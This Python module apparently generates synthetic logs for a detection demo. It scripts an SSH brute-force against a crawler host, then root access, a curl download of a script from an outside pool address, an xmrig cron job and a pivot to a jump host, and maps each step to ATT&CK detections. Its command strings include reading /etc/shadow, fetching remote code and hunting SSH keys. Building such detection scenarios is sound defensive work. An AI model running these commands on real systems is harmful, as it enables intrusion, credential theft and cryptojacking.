"""Story 1, played live: passwords are guessed on the press crawler until one fits; a miner, and on to the jump host."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from random import Random

from core.clock import SECOND, Micros
from kydai.demo.emission import Emission, Flow, Given
from kydai.demo.lines_network import fortigate_traffic
from kydai.demo.lines_unix import (
    audit_exec,
    audit_user,
    cron,
    daemon,
    squid,
    ssh_accepted,
    ssh_closed,
    ssh_failed,
    sudo,
)
from kydai.demo.story import Story
from kydai.demo.truth import Expected, Truth
from kydai.demo.world import World

NAME = "ssh"
ATTACKERS = tuple(f"198.51.100.{n}" for n in range(141, 151)) + tuple(f"203.0.113.{n}" for n in range(71, 81))
WINNER = "203.0.113.77"
POOL = "203.0.113.9"
POOL_PORT = 3333
GUESSED_S = 20
"""How long the guessing lasts; then one password fits."""
PACE = 0.65
"""Of the time that a hurried intruder would take: the demonstration has a minute for all of it."""

_KNOWN = ("root", "baochi", "www-data")
_NAMES = (
    "root",
    "root",
    "root",
    "admin",
    "ubuntu",
    "baochi",
    "test",
    "oracle",
    "postgres",
    "git",
    "deploy",
    "user",
    "ftpuser",
    "www-data",
)


@dataclass(frozen=True, slots=True)
class Attempt:
    """One guess: when, from where, with which name."""

    at: Micros
    number: int
    source: str
    port: int
    user: str

    @property
    def pid(self) -> int:
        """Of the sshd that would answer it."""
        return 21000 + self.number * 3


def play(world: World, random: Random, start: Micros) -> Iterator[Given]:
    """About 110 guesses in 32 s, one success, root, cron, a miner, the jump host; 66 s in all."""
    tries = attempts(random, start)
    for attempt in tries:
        yield from refused(world, attempt)
    yield from around(world, random, start, tries)


def around(world: World, random: Random, start: Micros, tries: Sequence[Attempt]) -> Iterator[Given]:
    """All of the story but sshd's lines of the guesses: for when the guesses really arrive somewhere."""
    for attempt in tries[::5]:
        yield _denied_elsewhere(world, random, attempt.at, attempt.source)
    yield from taking(world, random, start + GUESSED_S * SECOND)


def attempts(random: Random, start: Micros) -> list[Attempt]:
    """Twenty addresses, each with five or six guesses, none of them right."""
    made = []
    for number, source in enumerate(ATTACKERS * 5 + ATTACKERS[::2]):
        at = start + round(number * GUESSED_S * SECOND / 112) + random.randrange(200_000)
        user = _NAMES[(number * 7 + number // 20) % len(_NAMES)]
        made.append(Attempt(at, number, source, 32768 + random.randrange(28000), user))
    return made


def refused(world: World, attempt: Attempt, *, took: Micros = SECOND) -> list[Emission]:
    """What sshd on the press crawler writes of an attempt; it ``took`` that long to say no."""
    host, at, source = world.host("baochi-crawl01"), attempt.at, attempt.source
    known = attempt.user in _KNOWN
    made = ssh_failed(host, at, attempt.pid, attempt.user, source, attempt.port, known=known, took=took, story=NAME)
    if attempt.number % 4 == 0:
        made.append(ssh_closed(host, at + took, attempt.pid, attempt.user, source, attempt.port, NAME))
    return made


def _denied_elsewhere(world: World, random: Random, at: Micros, source: str) -> Given:
    # the same addresses knock at the portal too, where the border firewall refuses them
    return fortigate_traffic(
        world.host("fw-ttdl"),
        at + 60_000,
        src=source,
        sport=40000 + random.randrange(20000),
        dst="192.0.2.20",
        dport=22,
        proto=6,
        session=9_100_000 + random.randrange(90_000),
        action="deny",
        policy=(0, "implicit-deny"),
        service="SSH",
        sent=0,
        received=0,
        duration=0,
        zones=("wan1", "dmz"),
        story=NAME,
    )


def taking(world: World, random: Random, start: Micros) -> Iterator[Given]:
    """From the password that fits to the jump host."""
    host, jump, fw = world.host("baochi-crawl01"), world.host("jump01"), world.host("fw-ttdl")
    account, port = world.accounts["crawler"], 51544

    def t(seconds: float) -> Micros:
        return start + round(seconds * PACE * SECOND)

    yield from ssh_accepted(host, t(1), 21407, account, WINNER, port, "password", NAME)
    yield daemon(host, t(1.1), "systemd-logind[640]", f"New session 31 of user {account}.", NAME)
    yield from sudo(host, t(4), account, "/usr/bin/id", story=NAME)
    yield from sudo(host, t(6), account, "/usr/bin/cat /etc/shadow", story=NAME)
    yield from sudo(host, t(9), account, f"/usr/bin/curl -fsSL http://{POOL}/x/s.sh -o /tmp/.sys.sh", story=NAME)
    yield squid(
        host,
        t(9.3),
        host.address,
        "GET",
        f"http://{POOL}/x/s.sh",
        200,
        4183,
        212,
        result="TCP_MISS",
        peer=POOL,
        kind="text/x-sh",
        story=NAME,
    )
    yield _flow(t(9.6), host.address, POOL, 48120, 80, 4183, 9, t(9.2))
    yield from sudo(host, t(12), account, "/usr/bin/bash /tmp/.sys.sh", story=NAME)
    yield from sudo(host, t(13), account, "/usr/bin/install -m 755 /tmp/.x/xmrig /usr/lib/.sys", story=NAME)
    yield from sudo(host, t(14), account, "/usr/bin/tee /etc/cron.d/sys", story=NAME)
    yield daemon(host, t(15), "cron[702]", "(*system*sys) RELOAD (/etc/cron.d/sys)", NAME)
    yield cron(
        host,
        t(17),
        21533,
        "root",
        f"/usr/lib/.sys -o stratum+tcp://{POOL}:{POOL_PORT} --donate-level 1 -B >/dev/null 2>&1",
        NAME,
    )
    for number in range(4):
        at = t(19 + 3 * number)
        yield _flow(at, host.address, POOL, 48122, POOL_PORT, 2_400 + 310 * number, 14 + number, t(18))
    yield fortigate_traffic(
        fw,
        t(20),
        src=host.address,
        sport=48122,
        dst=POOL,
        dport=POOL_PORT,
        proto=6,
        session=9_271_133,
        action="accept",
        policy=(41, "BAOCHI-RA-NGOAI"),
        service="tcp/3333",
        sent=2_400,
        received=5_210,
        duration=2,
        zones=("lan", "wan1"),
        nat=world.nat,
        app="Stratum.Mining.Protocol",
        story=NAME,
    )
    yield from sudo(host, t(23), account, "/usr/bin/find / -name id_ed25519 -o -name id_rsa", story=NAME)
    yield from sudo(host, t(25), account, "/usr/bin/ssh -i /home/duclm/.ssh/id_ed25519 duclm@10.20.16.11", story=NAME)
    yield Flow(t(28), "sw-core01", host.address, jump.address, 50212, 22, 6, 8_944, 31, t(26), 0x1B, NAME)
    yield from ssh_accepted(jump, t(26.2), 30771, "duclm", host.address, 50212, "publickey", NAME)
    yield audit_user(jump, t(26.4), 88120, "USER_LOGIN", "duclm", host.address, good=True, pid=30771, story=NAME)
    yield from sudo(jump, t(29), "duclm", "/usr/bin/ls -la /root", tty="pts/1", story=NAME)
    yield audit_exec(
        jump,
        t(30),
        88131,
        ["/usr/bin/cat", "/home/duclm/.ssh/known_hosts"],
        pid=30833,
        ppid=30790,
        uid=1001,
        folder="/home/duclm",
        story=NAME,
    )
    yield audit_exec(
        jump,
        t(31),
        88137,
        ["/usr/bin/nmap", "-sT", "-p", "22,3389,5432", "10.20.5.0/24"],
        pid=30841,
        ppid=30790,
        uid=1001,
        folder="/home/duclm",
        story=NAME,
    )
    for last in range(11, 21):
        for port_tried in (22, 5432):
            at = t(31.2 + (last - 11) * 0.2)
            yield Flow(
                at,
                "sw-core01",
                jump.address,
                f"10.20.5.{last}",
                41000 + last,
                port_tried,
                6,
                120,
                2,
                at - 90_000,
                0x02,
                NAME,
            )


def _flow(at: Micros, src: str, dst: str, sport: int, dport: int, octets: int, packets: int, started: Micros) -> Flow:
    return Flow(at, "fw-ttdl", src, dst, sport, dport, 6, octets, packets, started, 0x1A, NAME)


STORY = Story(
    name=NAME,
    title={
        "vi": "Dò mật khẩu máy thu thập báo chí, cài phần mềm đào tiền ảo",
        "en": "Password guessing on the press crawler, then a miner",
    },
    hours=(),
    lasts=44 * SECOND,
    play=play,
    truth=Truth(
        hosts=("baochi-crawl01", "jump01"),
        outside=(*ATTACKERS, POOL),
        accounts=("baochi", "duclm"),
        expects=(
            Expected(
                {
                    "vi": "nhiều lần sai mật khẩu SSH từ một hoặc nhiều địa chỉ",
                    "en": "many failed SSH passwords from one or many addresses",
                },
                "baochi-crawl01",
                "T1110.001",
            ),
            Expected(
                {"vi": "đăng nhập SSH thành công sau nhiều lần sai", "en": "SSH success after many failures"},
                "baochi-crawl01",
                "T1110",
            ),
            Expected(
                {"vi": "dùng sudo đọc /etc/shadow", "en": "sudo reads /etc/shadow"}, "baochi-crawl01", "T1003.008"
            ),
            Expected(
                {"vi": "tải tệp bằng curl vào /tmp với quyền root", "en": "download by curl into /tmp as root"},
                "baochi-crawl01",
                "T1105",
            ),
            Expected(
                {"vi": "ghi tệp vào /etc/cron.d", "en": "file written to /etc/cron.d"}, "baochi-crawl01", "T1053.003"
            ),
            Expected(
                {"vi": "giao thức đào tiền ảo trên dòng lệnh", "en": "miner's pool protocol on a command line"},
                "baochi-crawl01",
                "T1496",
            ),
            Expected(
                {"vi": "luồng mạng ra cổng đào tiền ảo", "en": "outbound flow to a miner's port"},
                "baochi-crawl01",
                "T1496",
            ),
            Expected(
                {
                    "vi": "đăng nhập máy quản trị trung gian từ vùng máy chủ",
                    "en": "log-on to the jump host from a server zone",
                },
                "jump01",
                "T1021.004",
            ),
            Expected({"vi": "dò quét từ máy quản trị trung gian", "en": "scan from the jump host"}, "jump01", "T1046"),
        ),
        summary={
            "vi": "Hai mươi địa chỉ bên ngoài dò mật khẩu SSH của máy thu thập báo chí; một lần đúng, sau đó "
            "chiếm quyền root, đặt lịch cron, chạy phần mềm đào tiền ảo và dùng khóa tìm được để vào "
            "máy quản trị trung gian.",
            "en": "Twenty outside addresses guess SSH passwords of the press crawler; one fits, then root, a cron "
            "job, a miner, and a found key opens the jump host.",
        },
    ),
)
